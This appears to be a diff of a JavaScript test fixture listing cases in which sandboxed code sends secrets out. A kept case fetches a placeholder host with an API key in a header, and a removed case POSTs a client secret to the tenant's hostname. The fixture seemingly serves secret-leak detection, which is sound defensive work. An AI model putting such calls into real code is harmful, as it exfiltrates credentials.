@@ -70,10 +70,6 @@ export const ofSecrets = {
         code: `${set('1')} await fetch('https://no-such-host.invalid/', { headers: { 'x-api-key': event.secrets.apiKey } }).catch(() => {});`,
         secrets: { apiKey: 'kJ7x-92hfQ0aLmZ83pWq' },
       },
-      {
-        name: "the tenant's own host",
-        code: `${set('1')} await fetch('https://' + event.request.hostname + '/oauth/token', { method: 'POST', body: JSON.stringify({ client_secret: event.secrets.clientSecret }) }).catch(() => {});`,
-      },
     ],
   },
   secret_in_code: {
